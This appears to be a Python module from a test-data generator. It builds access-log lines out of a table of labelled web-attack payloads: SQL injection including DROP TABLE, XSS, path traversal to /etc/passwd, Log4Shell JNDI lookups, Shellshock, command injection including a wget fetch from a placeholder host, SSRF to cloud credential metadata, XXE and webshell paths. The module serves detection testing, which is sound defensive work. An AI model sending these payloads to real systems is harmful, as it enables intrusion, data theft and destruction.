"""Web attacks: templates of hostile requests, each with the signatures that it raises.

Flow: TABLE -> `attacks` draws the fields («n», «word»: see there) and an encoding -> `web` puts the text into an
access-log line.

Invariants: (signatures, via, text); via "query" is a parameter's value and is written in any of ENCODINGS, so that a
signature must know the plain and the percent-encoded form; "target" and "post" are whole request targets, already
encoded; "referer" and "agent" are header fields, which aren't encoded. The lines are harmless: hosts are
example.com's, addresses are of documentation networks.
Source: the OWASP Web Security Testing Guide (injection, traversal, SSRF) and the published advisories of the named
products.
"""

from __future__ import annotations

from collections.abc import Callable
from functools import partial

PAGES = ("/", "/index.php", "/search", "/product", "/item.asp", "/view", "/api/v1/list", "/news/article")
PARAMETERS = ("id", "q", "cat", "page", "name", "item", "lang", "view")

UNRESERVED = frozenset(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~")

#: What even a sloppy client encodes in a value: controls and the signs that would end the value, the target or the
#: log's field.
ALWAYS_ENCODED = frozenset(range(0x20)) | frozenset(b'"#&+%\\\x7f')


def encode_loosely(text: str, blank: str) -> str:
    """Gives the text with a blank written as `blank` and only what must be encoded encoded: as scanners send it."""
    return "".join(
        blank if char == " " else f"%{ord(char):02x}" if ord(char) in ALWAYS_ENCODED else char for char in text
    )


def encode_fully(text: str, blank: str, digits: str) -> str:
    """Gives the text with all encoded but letters, digits and "-._~" (RFC 3986, unreserved), as libraries send it.

    Args:
        digits: the form of a byte, "%%%02x" or "%%%02X".
    """
    return "".join(blank if char == " " else char if ord(char) in UNRESERVED else digits % ord(char) for char in text)


ENCODINGS: tuple[Callable[[str], str], ...] = (
    partial(encode_loosely, blank="+"),
    partial(encode_loosely, blank="%20"),
    partial(encode_fully, blank="%20", digits="%%%02x"),
    partial(encode_fully, blank="+", digits="%%%02X"),
)

TABLE: tuple[tuple[str, str, str], ...] = (
    # SQL injection
    ("web.sqli.union-select", "query", "-«n» UNION SELECT «n»,«n»,«n»-- -"),
    ("web.sqli.union-select", "query", "«n»' union all select null,null,@@version-- "),
    ("web.sqli.union-select", "query", "«word»') UnIoN SeLeCt «n»,user(),«number»--"),
    ("web.sqli.union-select", "target", "/item?id=«number»/**/union/**/select/**/«n»,«n»"),
    ("web.sqli.tautology", "query", "«n»' OR '1'='1"),
    ("web.sqli.tautology", "query", "admin' or 1=1-- "),
    ("web.sqli.tautology", "query", "«n» OR 1=1"),
    ("web.sqli.tautology", "query", "«word»' or 'a'='a"),
    ("web.sqli.time-based", "query", "«n» AND SLEEP(«n»)"),
    ("web.sqli.time-based", "query", "«n»'; WAITFOR DELAY '0:0:«n»'--"),
    ("web.sqli.time-based", "query", "«n» AND pg_sleep(«n»)"),
    ("web.sqli.time-based", "query", "«n» AND BENCHMARK(5000000,MD5(«n»))"),
    ("web.sqli.stacked-drop", "query", "«n»'; DROP TABLE «word»s--"),
    ("web.sqli.stacked-drop", "query", "«n»; drop database «word»"),
    ("web.sqli.information-schema", "query", "(select count(*) from information_schema.tables)"),
    ("web.sqli.information-schema", "query", "«n» AND (SELECT «n» FROM INFORMATION_SCHEMA.COLUMNS LIMIT 1)"),
    (
        "web.sqli.information-schema web.sqli.union-select",
        "query",
        "-1 UNION SELECT table_name,«n» FROM information_schema.tables-- -",
    ),
    # Cross-site scripting
    ("web.xss.script-tag", "query", "<script>prompt(«number»)</script>"),
    ("web.xss.script-tag", "query", '"><ScRiPt src=//«host»/x.js></ScRiPt>'),
    ("web.xss.script-tag", "referer", "http://«host»/?<script>confirm(«number»)</script>"),
    ("web.xss.event-handler", "query", "<img src=x onerror=prompt(«number»)>"),
    ("web.xss.event-handler", "query", "<svg onload=confirm(«number»)>"),
    ("web.xss.event-handler", "query", '"><body onload=prompt(«n»)>'),
    ("web.xss.javascript-uri", "query", "javascript:prompt(«number»)"),
    ("web.xss.javascript-uri", "query", "<a href=javascript:confirm(«n»)>«word»</a>"),
    # Files of the server
    ("web.traversal.dot-dot", "query", "../../../../var/log/«word».log"),
    ("web.traversal.dot-dot", "query", "..\\..\\..\\«word»\\«word».txt"),
    ("web.traversal.dot-dot", "target", "/static/..%2f..%2f..%2f«word»/«word».conf"),
    ("web.traversal.dot-dot", "target", "/images/%2e%2e/%2e%2e/%2e%2e/«word»"),
    ("web.traversal.dot-dot", "target", "/files/..%252f..%252f..%252f«word».conf"),
    ("web.traversal.etc-passwd", "query", "/etc/passwd"),
    ("web.traversal.etc-passwd", "query", "file:///etc/passwd"),
    ("web.traversal.dot-dot web.traversal.etc-passwd", "query", "../../../../../../etc/passwd"),
    ("web.traversal.dot-dot web.traversal.etc-passwd", "target", "/«word»/..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("web.traversal.win-ini", "query", "C:\\windows\\win.ini"),
    ("web.traversal.win-ini", "query", "c:/Windows/win.ini"),
    ("web.traversal.dot-dot web.traversal.win-ini", "query", "..\\..\\..\\..\\windows\\win.ini"),
    # Execution of commands
    ("web.rce.log4shell", "agent", "${jndi:ldap://«host»:1389/«word»}"),
    ("web.rce.log4shell", "referer", "${jndi:rmi://«host»/«hex»}"),
    ("web.rce.log4shell", "query", "${jndi:dns://«host»/«word»}"),
    ("web.rce.log4shell", "agent", "${${lower:j}ndi:${lower:l}dap://«host»/«word»}"),
    ("web.rce.shellshock", "agent", "() { :;}; echo «number»"),
    ("web.rce.shellshock", "agent", "() { :; }; /bin/ping -c «n» «ip»"),
    ("web.rce.shellshock", "referer", "() { _; } >_[$($())] { echo «hex»; }"),
    ("web.rce.command-chain", "query", "«word»;id"),
    ("web.rce.command-chain", "query", "«ip»|whoami"),
    ("web.rce.command-chain", "query", "«ip»; wget http://«host»/«hex»"),
    ("web.rce.command-chain", "query", "«ip» && uname -a"),
    ("web.rce.command-chain", "query", "$(whoami)"),
    ("web.rce.command-chain", "query", "«word»`id`"),
    ("web.rce.php-wrapper", "query", "php://filter/convert.base64-encode/resource=«word»"),
    ("web.rce.php-wrapper", "query", "php://input"),
    ("web.rce.php-wrapper", "query", "expect://«word»"),
    ("web.rce.php-wrapper", "query", "data://text/plain;base64,«base»"),
    (
        "web.rce.spring4shell",
        "target",
        "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=«word»",
    ),
    ("web.rce.spring4shell", "post", "/«word»?class.module.classLoader.URLs%5B0%5D=«n»"),
    (
        "web.rce.thinkphp",
        "target",
        "/index.php?s=/index/think%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=«hex»",
    ),
    ("web.rce.thinkphp", "target", "/?s=index/\\\\think\\\\app/invokefunction&function=phpinfo&vars[0]=«n»"),
    ("web.ssti.expression", "query", "{{«n»*«n»}}"),
    ("web.ssti.expression", "query", "${«number»*«number»}"),
    ("web.ssti.expression", "query", "<%= «n»*«n» %>"),
    ("web.ssti.expression", "query", "#{«number»*«n»}"),
    ("web.xxe.entity", "query", '<!DOCTYPE «word» [<!ENTITY «word» SYSTEM "http://«host»/«word».dtd">]>'),
    ("web.xxe.entity", "query", '<!DOCTYPE r [<!ENTITY % «word» SYSTEM "http://«host»/e.dtd">%«word»;]>'),
    # Probes
    ("web.probe.dotenv", "target", "/.env"),
    ("web.probe.dotenv", "target", "/«word»/.env"),
    ("web.probe.dotenv", "target", "/.env.production"),
    ("web.probe.git-config", "target", "/.git/config"),
    ("web.probe.git-config", "target", "/«word»/.git/config"),
    ("web.probe.git-config", "target", "/.git/HEAD"),
    ("web.probe.wp-login", "target", "/wp-login.php"),
    ("web.probe.wp-login", "post", "/«word»/wp-login.php"),
    ("web.probe.xmlrpc", "post", "/xmlrpc.php"),
    ("web.probe.xmlrpc", "post", "/«word»/xmlrpc.php"),
    ("web.probe.phpmyadmin", "target", "/phpmyadmin/index.php?lang=en"),
    ("web.probe.phpmyadmin", "target", "/phpMyAdmin/"),
    ("web.probe.phpmyadmin", "target", "/phpMyAdmin-5.«n».«n»/index.php"),
    ("web.probe.actuator", "target", "/actuator/env"),
    ("web.probe.actuator", "target", "/actuator/heapdump"),
    ("web.probe.actuator", "target", "/«word»/actuator/gateway/routes"),
    ("web.probe.server-status", "target", "/server-status"),
    ("web.probe.server-status", "target", "/server-info?config"),
    ("web.probe.backup-file", "target", "/backup.zip"),
    ("web.probe.backup-file", "target", "/db.sql"),
    ("web.probe.backup-file", "target", "/index.php.bak"),
    ("web.probe.backup-file", "target", "/backup.tar.gz"),
    ("web.probe.cgi-bin", "target", "/cgi-bin/test.cgi"),
    ("web.probe.cgi-bin", "target", "/cgi-bin/«word».pl"),
    ("web.webshell.access", "target", "/uploads/c99.php"),
    ("web.webshell.access", "target", "/images/r57.php"),
    ("web.webshell.access", "post", "/wso.php"),
    ("web.webshell.access", "target", "/«word»/b374k.php"),
    # Scanners, by the name they give themselves
    ("web.scanner.sqlmap", "agent", "sqlmap/1.7.«n»#stable (https://sqlmap.org)"),
    ("web.scanner.sqlmap", "agent", "sqlmap/1.«n»-dev (http://sqlmap.org)"),
    ("web.scanner.nikto", "agent", "Mozilla/5.00 (Nikto/2.1.«n») (Evasions:None) (Test:00«number»)"),
    ("web.scanner.nikto", "agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"),
    ("web.scanner.nmap", "agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
    ("web.scanner.nmap", "target", "/nmaplowercheck17«number»«number»"),
    (
        "web.scanner.nuclei",
        "agent",
        "Mozilla/5.0 (X11; Linux x86_64) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    ),
    ("web.scanner.nuclei", "agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
    ("web.scanner.masscan", "agent", "masscan/1.«n» (https://github.com/robertdavidgraham/masscan)"),
    ("web.scanner.masscan", "agent", "masscan/1.0 (https://«host»)"),
    (
        "web.scanner.dirbuster",
        "agent",
        "DirBuster-1.0-RC«n» (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    ),
    ("web.scanner.dirbuster", "agent", "DirBuster-0.«n».«n»"),
    # The server as a client, and split answers
    ("web.ssrf.metadata", "query", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("web.ssrf.metadata", "query", "http://metadata.google.internal/computeMetadata/v1/instance/"),
    ("web.crlf.injection", "query", "«word»\r\nSet-Cookie: «word»=«hex»"),
    ("web.crlf.injection", "query", "«word»\r\nLocation: http://«host»/"),
)
